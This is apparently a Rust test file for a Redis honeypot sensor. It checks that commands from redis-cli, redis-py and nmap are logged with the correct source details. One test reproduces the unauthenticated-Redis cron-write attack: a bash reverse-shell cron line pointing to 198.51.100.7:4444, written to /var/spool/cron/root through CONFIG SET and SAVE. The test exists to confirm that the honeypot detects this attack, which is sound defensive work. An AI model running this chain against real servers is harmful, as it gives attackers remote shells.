//! The Redis honeypot driven by real clients through the real binary:
//! redis-cli (interactive commands, `--pipe` pipelining, the cron-write
//! attack chain), redis-py, and nmap -sV. Every command must land in the
//! JSONL with the right source address.

mod common;

use std::process::Command;

use common::{Sensor, of_kind, read_events, redis_cli};
use serde_json::Value;

fn commands<'a>(events: &'a [Value], name: &str) -> Vec<&'a Value> {
    of_kind(events, "command")
        .into_iter()
        .filter(|e| e["command"] == name)
        .collect()
}

#[test]
fn redis_cli_commands_and_pipeline_are_recorded() {
    let mut s = Sensor::redis("");
    let p = s.port();
    assert_eq!(redis_cli(p, &["PING"], None).trim(), "PONG");
    assert_eq!(
        redis_cli(p, &["SET", "greeting", "hello world"], None).trim(),
        "OK"
    );
    assert_eq!(
        redis_cli(p, &["GET", "greeting"], None).trim(),
        "hello world"
    );
    assert_eq!(
        redis_cli(p, &["EXISTS", "greeting", "nope"], None).trim(),
        "1"
    );
    assert_eq!(redis_cli(p, &["INCR", "counter"], None).trim(), "1");
    assert_eq!(redis_cli(p, &["INCR", "counter"], None).trim(), "2");
    assert_eq!(redis_cli(p, &["DBSIZE"], None).trim(), "2");
    let info = redis_cli(p, &["INFO", "server"], None);
    assert!(info.contains("redis_version:5.0.7"), "{info}");
    let unknown = redis_cli(p, &["FOOBAR", "x"], None);
    assert!(unknown.contains("unknown command"), "{unknown}");

    // Pipelining: redis-cli --pipe writes every command before reading.
    let mut bulk = Vec::new();
    for i in 0..500 {
        let (k, v) = (format!("key:{i}"), format!("value-{i}"));
        bulk.extend_from_slice(
            format!(
                "*3\r\n$3\r\nSET\r\n${}\r\n{k}\r\n${}\r\n{v}\r\n",
                k.len(),
                v.len()
            )
            .as_bytes(),
        );
    }
    let out = redis_cli(p, &["--pipe"], Some(&bulk));
    assert!(out.contains("errors: 0, replies: 500"), "{out}");
    assert_eq!(redis_cli(p, &["GET", "key:499"], None).trim(), "value-499");

    s.stop();
    let events = read_events(&s.event_dir());
    assert_eq!(commands(&events, "set").len(), 501);
    assert_eq!(commands(&events, "ping").len(), 1);
    assert_eq!(commands(&events, "incr").len(), 2);
    let unknown = commands(&events, "foobar");
    assert_eq!(unknown.len(), 1);
    assert_eq!(unknown[0]["error"], true);
    // One connect and one close per redis-cli run, all from 127.0.0.1, every
    // command inside a session that was opened.
    let connects = of_kind(&events, "session.connect");
    assert_eq!(connects.len(), of_kind(&events, "session.close").len());
    let sessions: std::collections::HashSet<&str> = connects
        .iter()
        .map(|e| e["session"].as_str().unwrap())
        .collect();
    for e in &events {
        assert_eq!(e["src_ip"], "127.0.0.1");
        assert_eq!(e["dst_port"], p);
        assert_eq!(e["sensor"], "test-sensor");
        assert_eq!(e["schema"], 1);
        assert!(sessions.contains(e["session"].as_str().unwrap()));
    }
    let piped = commands(&events, "set")
        .into_iter()
        .find(|e| e["args"][0] == "key:250")
        .unwrap();
    assert_eq!(piped["args"][1], "value-250");
}

/// The classic unauthenticated-Redis cron attack, step by step with
/// redis-cli as scripts do it: each step is its own connection, so the
/// honeypot must keep CONFIG state across sessions like a real server.
#[test]
fn cron_write_chain_is_tagged_with_evidence() {
    let mut s = Sensor::redis("");
    let p = s.port();
    let cron = "\n\n*/1 * * * * /bin/bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n\n";
    assert_eq!(redis_cli(p, &["flushall"], None).trim(), "OK");
    assert_eq!(redis_cli(p, &["set", "x", cron], None).trim(), "OK");
    assert_eq!(
        redis_cli(p, &["config", "set", "dir", "/var/spool/cron/"], None).trim(),
        "OK"
    );
    assert_eq!(
        redis_cli(p, &["config", "set", "dbfilename", "root"], None).trim(),
        "OK"
    );
    assert_eq!(
        redis_cli(p, &["config", "get", "dir"], None),
        "dir\n/var/spool/cron\n"
    );
    assert_eq!(redis_cli(p, &["save"], None).trim(), "OK");
    s.stop();
    let events = read_events(&s.event_dir());
    let attacks = of_kind(&events, "attack");
    let write = attacks
        .iter()
        .find(|e| e["technique"] == "redis.config_write")
        .unwrap_or_else(|| panic!("no config_write attack in {attacks:#?}"));
    let ev = &write["evidence"];
    assert_eq!(ev["path"], "/var/spool/cron/root", "{ev}");
    assert_eq!(ev["class"], "cron", "{ev}");
    assert!(
        ev.to_string().contains("/dev/tcp/198.51.100.7/4444"),
        "{ev}"
    );
    assert_eq!(write["src_ip"], "127.0.0.1");
    // The bytes that would have been written are kept as a payload, by hash.
    let payloads = of_kind(&events, "payload");
    assert!(
        payloads.iter().any(|e| e["session"] == write["session"]),
        "no payload for the save"
    );
}

#[test]
fn redis_py_client_with_pipeline() {
    let mut s = Sensor::redis("");
    let script = format!(
        r#"
import redis
r = redis.Redis(host="127.0.0.1", port={port}, socket_timeout=5)
assert r.ping() is True
assert r.set("a", "1") is True
assert r.get("a") == b"1"
assert r.set("b", "2", ex=100, nx=True) is True
assert r.set("b", "3", nx=True) is None
assert 0 < r.ttl("b") <= 100
p = r.pipeline(transaction=False)
for i in range(200):
    p.set(f"p{{i}}", i)
    p.get(f"p{{i}}")
res = p.execute()
assert res[1] == b"0" and res[-1] == b"199", res[-3:]
info = r.info()
assert info["redis_version"] == "5.0.7", info.get("redis_version")
assert "dir" in r.config_get("dir")
r.client_setname("py-test")
assert r.client_getname() == "py-test"
sock = r.connection_pool.get_connection("PING")
print(sock._sock.getsockname()[1])
"#,
        port = s.port()
    );
    let out = Command::new(mirage_testkit::venv_python())
        .args(["-c", &script])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let client_port: u64 = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap();
    s.stop();
    let events = read_events(&s.event_dir());
    // redis-py keeps one connection: all its commands share a session whose
    // source port is the client's.
    let connect = of_kind(&events, "session.connect")
        .into_iter()
        .find(|e| e["src_port"] == client_port)
        .expect("client session");
    let mine: Vec<_> = of_kind(&events, "command")
        .into_iter()
        .filter(|e| e["session"] == connect["session"])
        .collect();
    assert!(mine.len() >= 400 + 8, "{}", mine.len());
    assert!(
        mine.iter()
            .all(|e| e["src_ip"] == "127.0.0.1" && e["src_port"] == client_port)
    );
}

/// nmap tries its Redis version probe early only on the Redis port; on any
/// other port its HTTP probe gets Redis's arity error first and it reports
/// Redis without a version (a real redis-server does the same). So scan
/// port 6379, inside a private namespace.
#[test]
fn nmap_identifies_redis_with_configured_version() {
    for version in ["5.0.7", "6.2.14", "7.0.15"] {
        let config = format!("[services.redis]\nversion = \"{version}\"\n");
        let line = common::nmap_standard_port("redis", 6379, &config);
        assert!(line.contains("open") && line.contains("redis"), "{line}");
        assert!(
            line.contains(&format!("Redis key-value store {version}")),
            "{line}"
        );
    }
}
